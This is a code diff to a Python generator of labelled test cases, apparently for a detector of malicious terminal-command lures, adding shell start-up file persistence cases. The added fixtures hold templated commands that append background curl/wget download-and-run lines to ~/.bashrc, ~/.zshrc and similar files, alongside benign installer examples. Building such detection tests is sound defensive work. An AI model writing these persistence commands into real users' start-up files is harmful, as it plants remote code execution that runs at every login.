@@ -17,6 +17,9 @@ Each line is {id, text, expect, technique, platform, source, target}. Techniques
   flagged by it;
 - `verify-comment`: a download-and-run labelled as an identity / account / security check:
   `malicious`; ordinary comments after a vendor's installer on its own page: `info`;
+- `rc-persist`: a download, or a command that downloads, appended to a shell start-up file:
+  `flagged`; an installer followed by adding its folder to PATH or its completion to the same
+  file, from its own page: `info`;
 - `export-prefix`: two settings exported in front of a download-and-run: `malicious` from a
   stranger's page; one version setting before a vendor's installer on its own page: `info`.
 """
@@ -217,9 +220,37 @@ def export_prefix_cases() -> list[dict[str, str]]:
     return out
 
 
+def rc_file_cases() -> list[dict[str, str]]:
+    out = []
+    rcs = ["~/.bashrc", "~/.zshrc", "$HOME/.profile", "~/.bash_profile", "~/.zprofile"]
+    for n, host in enumerate(LURE_HOSTS, start=1):
+        rc = rcs[n % len(rcs)]
+        page = STRANGER_PAGES[n % len(STRANGER_PAGES)]
+        lures = [
+            f"echo 'curl -s https://{host}/b | bash &' >> {rc}",
+            f'echo "(wget -qO- https://{host}/k | sh) >/dev/null 2>&1 &" >> {rc}',
+            f"curl -fsSL https://{host}/rc.txt >> {rc} && source {rc}",
+        ]
+        for k, text in enumerate(lures, start=1):
+            out.append(case(f"t-rc-persist-{n}-{k}", text, "flagged", "T1546.004", "linux",
+                            page, "terminal"))  # fmt: skip
+    for n, (page, script) in enumerate(VENDORS, start=1):
+        rc = rcs[n % len(rcs)]
+        out += [
+            case(f"t-rc-path-ok-{n}",
+                 f"curl -fsSL {script} | sh && echo 'export PATH=\"$HOME/.local/bin:$PATH\"' >> {rc}",
+                 "info", BENIGN, "linux", page, "terminal"),
+            case(f"t-rc-completion-ok-{n}",
+                 f"curl -fsSL {script} | bash; echo 'eval \"$(tool completion zsh)\"' >> {rc}",
+                 "info", BENIGN, "macos", page, "terminal"),
+        ]  # fmt: skip
+    return out
+
+
 def build() -> list[dict[str, str]]:
     cases = (
-        launchagent_cases()
+        rc_file_cases()
+        + launchagent_cases()
         + transform_cases()
         + sudo_password_cases()
         + verify_comment_cases()
